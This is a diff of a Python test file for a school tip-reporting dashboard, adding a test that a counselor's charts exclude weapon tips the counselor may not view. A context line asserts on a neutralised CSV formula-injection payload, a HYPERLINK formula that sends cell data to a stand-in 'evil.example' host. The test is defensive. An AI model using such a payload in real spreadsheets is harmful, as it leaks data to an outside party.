@@ -229,3 +229,30 @@ def test_a_school_name_cannot_become_a_formula_in_the_csv(app: Flask, auth: Auth
     body = auth.client.get("/admin/dashboard.csv").get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(body)))
     assert {row[1] for row in rows[1:]} == {'\'=HYPERLINK("https://evil.example/?"&A1,"open")'}
+
+
+BULLYING = "some older kids keep pushing my friend in the hallway and calling him names"
+
+
+def test_a_counselor_counts_nothing_of_tips_it_may_not_view(app: Flask, auth: AuthActions) -> None:
+    # The example's "life-safety" policy pages no counselor: a counselor does not view a
+    # critical weapon tip (docs/access.md), so the charts must not count it or its alert.
+    user = auth.create_role("counselor")
+    weapon = tip_at(app, WEAPON, NOW - timedelta(hours=1))
+    ack_after(app, weapon, NOW - timedelta(hours=1), 3)
+    bullying = tip_at(app, BULLYING, NOW - timedelta(hours=1))
+    ack_after(app, bullying, NOW - timedelta(hours=1), 6)
+    outbound(app, weapon, "sms", "failed", NOW - timedelta(minutes=50))
+    found = figures(app, user)
+    category = found.tips_by_category["Lincoln High School"]
+    assert category.total() == 1
+    assert category.counts["bullying"][-1] == 1
+    assert category.counts["weapon"][-1] == 0
+    assert found.tips_by_severity["Lincoln High School"].counts["critical"][-1] == 0
+    [lincoln] = found.ack
+    assert (lincoln.acked[-1], lincoln.p50[-1]) == (1, 6.0)
+    assert found.failed["Lincoln High School"].total() == 0
+    # The same figures for the school's admin count both.
+    admin = figures(app, auth.create_role("admin"))
+    assert admin.tips_by_category["Lincoln High School"].total() == 2
+    assert admin.ack[0].acked[-1] == 2
